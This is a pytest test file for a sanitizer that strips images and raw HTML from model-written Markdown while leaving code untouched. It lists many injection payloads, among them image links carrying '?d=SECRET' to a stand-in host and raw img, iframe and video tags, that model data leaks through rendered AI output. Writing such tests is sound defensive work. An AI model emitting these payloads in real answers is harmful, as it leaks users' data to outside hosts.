"""Model-written Markdown renders no image and no raw HTML, and its code stays as written.

Rendered here with a plain CommonMark renderer (no plugins), independent of the checker the
module uses on itself: an `<img`, `<iframe`, ... in that HTML is a request the browser would make.
"""

import re

import pytest
from markdown_it import MarkdownIt

from reelscope.untrusted import plot_text, renders_unsafe, safe_inline, safe_markdown

RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
FETCHING_TAG = re.compile(r"<(img|iframe|video|audio|source|link|script|object|embed|svg)\b")


def fetching_tags(markdown: str) -> list[str]:
    return FETCHING_TAG.findall(RENDERER.render(markdown))


LEAKS = [
    "![t](https://host/leak.png?d=SECRET)",
    'see ![a [nested] b](http://h/x "title") now',
    "![alt](<http://h/pointy dest>)",
    "![a][r]\n\n[r]: http://h/x",
    "![a][]\n\n[a]: http://h/x 'title'",
    "![shortcut]\n\n[shortcut]: http://h/x",
    "two backslashes \\\\![b](http://h/y)",
    "`code` then ![x](http://h/) then `more`",
    "[![inner](http://h/i)](http://h/o)",
    "> quoted ![x](http://h/q)",
    "- item ![x](http://h/l)\n  - nested ![y](http://h/m)",
    "| a | b |\n|---|---|\n| ![x](http://h/t) | `c` |",
    "# heading ![x](http://h/h)",
    "<img src=http://h/raw.png>",
    "text <img src='http://h/inline.png'> text",
    "<iframe src=http://h/frame></iframe>",
    "<video src=http://h/v.mp4 autoplay></video>",
    '<link rel="stylesheet" href="http://h/s.css">',
    "<div>\n![x](http://h/in-html-block)\n</div>",
    "<!-- comment --><img src=http://h/after-comment>",
    "$$\n```\n$$\n![x](http://h/after-math)\n```",
    "`unclosed ![x](http://h/u)",
    "``unmatched runs` ![x](http://h/d)",
    "$x![y](http://h/math)$",
]


@pytest.mark.parametrize("text", LEAKS)
def test_no_image_or_html_survives(text):
    assert fetching_tags(text) or renders_unsafe(text), "the case must be dangerous to begin with"
    safe = safe_markdown(text)
    assert not fetching_tags(safe), safe
    assert not renders_unsafe(safe)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![t](https://h/x.png)", "\\![t](https://h/x.png)"),  # "!" and a plain link
        ("![a][r]\n\n[r]: http://h/x", "\\![a][r]\n\n[r]: http://h/x"),
        ("<img src=x>", "\\<img src=x>"),
        ("Already \\![safe](u)", "Already \\![safe](u)"),
        ("Plain text, a < b and c > d!", "Plain text, a < b and c > d!"),
        ("Go to <https://example.com>!", "Go to <https://example.com>!"),
        ("$a<b$ is math", "$a<b$ is math"),
        ("Wow! [link](http://h/) stays a link", "Wow! [link](http://h/) stays a link"),
    ],
)
def test_text_reads_the_same(text, expected):
    assert safe_markdown(text) == expected


@pytest.mark.parametrize(
    "code",
    [
        "`![not an image](http://h/)`",
        "``a ` ![x](u) <img src=y>``",
        "```rust\nlet v = vec![1, 2];\n![md](http://h/)\n<img src=x>\n```",
        "~~~html\n<img src=http://h/>\n~~~",
        "    indented ![x](http://h/)\n    <video src=y>",
        "> ```\n> vec![0; 3]\n> ```",
    ],
)
def test_code_is_left_byte_for_byte(code):
    text = f"Before ![a](http://h/a)\n\n{code}\n\nAfter <img src=http://h/b>"
    safe = safe_markdown(text)
    assert code in safe
    assert not fetching_tags(safe)


def test_line_endings_and_nul_do_not_open_a_way_around():
    safe = safe_markdown("a\r\n![x](http://h/crlf)\r<img src=y>\0![z](http://h/nul)")
    assert not fetching_tags(safe)


STREAMED = (
    'Answer: ![chart](http://h/leak.png?d=SECRET "t") and ![r][ref] '
    "<img src=http://h/raw> `![code](u)` $![m](http://h/m)$\n\n"
    "```\nvec![1]\n```\n\n[ref]: http://h/ref.png"
)


def test_every_prefix_of_a_streamed_answer_is_safe():
    """A repaint shows whatever has arrived; no prefix may become an image later or now."""
    for end in range(len(STREAMED) + 1):
        prefix = STREAMED[:end]
        safe = safe_markdown(prefix)
        assert not fetching_tags(safe), (end, safe)
        # With more text still to come, the prefix must not be one that a later chunk completes
        # into an image: any completion of the safe text keeps the escapes it already has.
        assert not fetching_tags(safe + ")"), (end, safe)
        assert not fetching_tags(safe + "](http://h/x)"), (end, safe)


@pytest.mark.parametrize(
    "text",
    ["# Heading", "> quote", "- item", "1. item", "a | b\n--- | ---", "![x](https://h/p.png)"],
)
def test_safe_inline_renders_no_block_and_no_image(text):
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").enable("table").render(safe_inline(text))
    assert rendered.startswith("<p>"), rendered
    assert "<img" not in rendered and "<table" not in rendered
    assert "\n" not in safe_inline(text)


def test_plot_text_escapes_plotly_markup_and_keeps_line_breaks():
    assert (
        plot_text('<a href="https://x">hi</a>')
        == "&lt;a href=&quot;https://x&quot;&gt;hi&lt;/a&gt;"
    )
    assert plot_text("one\ntwo & three") == "one<br>two &amp; three"
